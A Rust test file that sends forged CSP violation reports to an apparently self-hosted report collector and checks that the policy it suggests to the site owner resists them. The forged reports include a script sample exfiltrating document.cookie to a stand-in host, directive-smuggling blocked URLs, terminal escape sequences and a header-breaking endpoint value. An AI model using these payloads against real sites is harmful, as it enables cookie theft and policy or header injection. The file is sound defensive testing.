//! Forged reports against what Lookout tells the owner to do: each attack of the security
//! review, sent as a stranger with `curl` would (through the app, each request from a network
//! of its own so that the visitor threshold is not what stops it), then read back through the
//! commands the owner runs.

use std::net::SocketAddr;
use std::sync::Arc;

use axum::extract::ConnectInfo;
use axum::http::StatusCode;
use lookout::store::ReportStore;
use serde_json::{Value, json};

use crate::support::{TempStore, post, run_lookout, send, state};

/// The owner's policy, as the site sends it.
const OWNER: &str = "default-src 'self'; object-src 'none'; frame-ancestors 'none'; form-action 'self'; base-uri 'none'; report-uri https://c.example/r/example.com";
const ATTACKER_POLICY: &str = "default-src * data: blob: 'unsafe-inline' 'unsafe-eval'; script-src * 'unsafe-inline' 'unsafe-eval'; report-uri https://attacker.example/collect";

fn csp(directive: &str, blocked: &str, sample: Option<&str>) -> Value {
    let mut body = json!({
        "blockedURL": blocked, "documentURL": "https://example.com/shop",
        "effectiveDirective": directive, "originalPolicy": ATTACKER_POLICY,
        "disposition": "report"
    });
    if let Some(s) = sample {
        body["sample"] = json!(s);
    }
    json!({"type": "csp-violation", "age": 0, "url": "https://example.com/shop",
           "user_agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36",
           "body": body})
}

/// Posts `reports` from the network `10.{net / 256}.{net % 256}.0/24`, each with a line
/// number of that network's: the same report sent again is the same report (stored once, with
/// its first sender), so a forger varies what does not change the problem.
async fn post_from(store: &Arc<dyn ReportStore>, net: usize, reports: &[Value]) {
    let reports: Vec<Value> = reports
        .iter()
        .cloned()
        .map(|mut r| {
            r["body"]["lineNumber"] = json!(net + 1);
            r
        })
        .collect();
    let mut req = post(
        "/r/example.com",
        "application/reports+json",
        Value::Array(reports).to_string(),
    );
    let peer: SocketAddr = format!("10.{}.{}.9:4000", net / 256, net % 256)
        .parse()
        .unwrap();
    req.extensions_mut().insert(ConnectInfo(peer));
    let (res, _) = send(&state(store.clone()), req).await;
    assert_eq!(res.status(), StatusCode::NO_CONTENT);
}

fn policy(dir: &str, extra: &[&str]) -> (bool, String, String) {
    crate::support::run_policy(dir, OWNER, extra)
}

#[tokio::test]
async fn forged_reports_from_forty_networks_do_not_write_the_owners_policy() {
    let t = TempStore::new();
    let store: Arc<dyn ReportStore> = t.store.clone();
    let attacks = [
        csp("script-src-elem", "https://*/x.js", None),
        csp("script-src-elem", "http://*:*/x.js", None),
        csp(
            "script-src-elem",
            "https://cdn.example\t'unsafe-inline'\t'unsafe-eval'/x.js",
            None,
        ),
        csp(
            "script-src-elem",
            "https://cdn.example\u{c}'unsafe-inline'/x.js",
            None,
        ),
        csp("img-src", "https://cdn.example;script-src-elem/x.png", None),
        csp("img-src", "https://cdn3.example,script-src/x.png", None),
        csp(
            "img-src",
            "https://cdn\u{1b}[2J\u{1b}[1;1H.example/x.png",
            None,
        ),
        csp("script-src-elem", "data:text/javascript,alert(1)", None),
        csp("object-src", "data:application/x-shockwave-flash,x", None),
        csp("frame-ancestors", "https://evil.example/", None),
        csp("form-action", "https://evil.example/", None),
        csp("base-uri", "https://evil.example/", None),
        csp(
            "script-src-elem",
            "inline",
            Some("location='//e.vil/?'+document.cookie"),
        ),
    ];
    for net in 0..40 {
        post_from(&store, net, &attacks).await;
    }
    let dir = t.path().to_str().unwrap();

    let (ok, out, err) = policy(dir, &["--min-visitors", "1", "--json"]);
    assert!(ok, "{err}");
    let s: Value = serde_json::from_str(out.trim()).unwrap();
    assert_eq!(s["policy"], OWNER, "{s:#}");
    assert_eq!(s["added"], json!([]));
    assert_eq!(
        s["reported_policies"]["differing"], 520,
        "shown as information: {s:#}"
    );
    for l in s["left_out"].as_array().unwrap() {
        assert!(
            l["reason"] != "too_few_visitors",
            "forty networks pass the visitor threshold; the grammar stops them: {l}"
        );
    }

    // The text a terminal shows: no control character from a report reaches it.
    let (ok, text, err) = policy(dir, &["--min-visitors", "1"]);
    assert!(ok, "{err}");
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\r'),
        "{text:?}"
    );
    assert!(text.contains("differs from yours"), "{text}");

    // A header for the owner's server: only with the owner's endpoint, never the reports'.
    let (ok, _, err) = policy(dir, &["--format", "nginx"]);
    assert!(!ok, "--format needs --endpoint: {err}");
    let (ok, nginx, err) = policy(
        dir,
        &[
            "--min-visitors",
            "1",
            "--format",
            "nginx",
            "--endpoint",
            "https://c.example/r/example.com",
        ],
    );
    assert!(ok, "{err}");
    assert!(!nginx.contains("attacker.example"), "{nginx}");
    assert!(!nginx.contains("unsafe-inline"), "{nginx}");
    let (ok, _, err) = policy(
        dir,
        &[
            "--format",
            "raw",
            "--endpoint",
            "https://a/\",x=\"https://attacker.example/",
        ],
    );
    assert!(!ok, "an endpoint that would break the header: {err}");
}

#[tokio::test]
async fn a_forger_on_one_network_does_not_shape_the_policy() {
    let t = TempStore::new();
    let store: Arc<dyn ReportStore> = t.store.clone();
    let reports: Vec<Value> = (0..100)
        .map(|i| {
            let mut r = csp(
                "script-src-elem",
                &format!("https://cdn.attacker.example/{i}.js"),
                None,
            );
            r["user_agent"] = json!(format!("Mozilla/5.0 Firefox/{}.0", 100 + i));
            // No policy in the report: nothing to classify it by.
            r["body"].as_object_mut().unwrap().remove("originalPolicy");
            r
        })
        .collect();
    for round in 0..10 {
        let mut varied = reports.clone();
        for r in &mut varied {
            r["body"]["columnNumber"] = json!(round);
        }
        post_from(&store, 7, &varied).await;
    }
    let dir = t.path().to_str().unwrap();
    let (ok, out, err) = policy(
        dir,
        &["--min-browsers", "3", "--min-reports", "5", "--json"],
    );
    assert!(ok, "{err}");
    let s: Value = serde_json::from_str(out.trim()).unwrap();
    assert_eq!(s["policy"], OWNER, "{s:#}");
    assert_eq!(s["left_out"][0]["reason"], "too_few_visitors", "{s:#}");
}

#[tokio::test]
async fn three_thousand_forged_hosts_give_a_header_under_its_ceiling() {
    let t = TempStore::new();
    let store: Arc<dyn ReportStore> = t.store.clone();
    for request in 0..30 {
        let reports: Vec<Value> = (0..100)
            .map(|i| {
                let mut r = csp(
                    "img-src",
                    &format!("https://x{}.flood.example/a.png", request * 100 + i),
                    None,
                );
                r["body"].as_object_mut().unwrap().remove("originalPolicy");
                r
            })
            .collect();
        post_from(&store, request, &reports).await;
    }
    let dir = t.path().to_str().unwrap();
    // The ceiling is what is tested, not the visitor threshold (the forger has many networks):
    // every host counts.
    let (ok, raw, err) = policy(
        dir,
        &[
            "--min-visitors",
            "1",
            "--format",
            "raw",
            "--endpoint",
            "https://c.example/r/example.com",
        ],
    );
    assert!(ok, "{err}");
    let csp = raw
        .lines()
        .find(|l| l.starts_with("Content-Security-Policy-Report-Only: "))
        .unwrap();
    eprintln!("CSP header under 3,000 forged hosts: {} bytes", csp.len());
    assert!(csp.len() <= 4096, "{}", csp.len());
    let (ok, out, err) = policy(dir, &["--min-visitors", "1", "--json"]);
    assert!(ok, "{err}");
    let s: Value = serde_json::from_str(out.trim()).unwrap();
    let too_large = s["left_out"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|l| l["reason"] == "too_large")
        .count();
    eprintln!(
        "3,000 forged hosts: {} added, {too_large} left out as too large",
        s["added"].as_array().unwrap().len()
    );
    assert_eq!(s["added"].as_array().unwrap().len() + too_large, 3000);
}

#[test]
fn snippets_refuse_what_the_server_would_expand_at_load() {
    for (server, policy) in [
        (
            "apache",
            "default-src 'self' https://${APACHE_RUN_USER}.example",
        ),
        ("caddy", "default-src 'self' https://{$HOME}.example"),
        ("nginx", "default-src 'self' https://$host.example"),
        ("express", "default-src 'self' https://例え.example"),
        ("django", "default-src 'self' https://例え.example"),
    ] {
        let (ok, out, err) = run_lookout(&[
            "headers",
            "--endpoint",
            "https://c.example",
            "--server",
            server,
            "--policy",
            policy,
        ]);
        assert!(!ok, "{server}: {out}");
        assert!(!err.is_empty());
    }
}

/// Reports received `days_ago`, one of each problem.
fn received(days_ago: i64, n: usize) -> Vec<lookout::report::Report> {
    let when = lookout::report::Timestamp(
        lookout::report::Timestamp::now().millis() - days_ago * 86_400_000,
    );
    static BATCH: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
    let b = BATCH.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
    let body: Vec<Value> = (0..n)
        .map(|i| {
            csp(
                "img-src",
                &format!("https://old{b}x{i}.example/x.png"),
                None,
            )
        })
        .collect();
    crate::support::decode_json(&Value::Array(body), "example.com", when)
}

#[tokio::test]
async fn serve_removes_reports_past_retention_so_a_flood_cannot_fill_the_store_for_good() {
    let t = TempStore::new();
    for _ in 0..3 {
        t.store.put(&received(40, 100)).await.unwrap();
    }
    t.store.put(&received(0, 5)).await.unwrap();
    let dir = t.path().to_str().unwrap().to_owned();
    let count = || {
        let (ok, out, err) = run_lookout(&[
            "query",
            "--site",
            "example.com",
            "--data",
            &dir,
            "--since",
            "400d",
            "--limit",
            "1000",
            "--json",
        ]);
        assert!(ok, "{err}");
        out.lines().count()
    };
    assert_eq!(count(), 305);
    let (_serve, _) = crate::support::spawn_serve(&["--data", &dir, "--retention-days", "30"]);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while count() != 5 && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
    assert_eq!(
        count(),
        5,
        "the 300 reports of 40 days ago are gone, today's kept"
    );
}
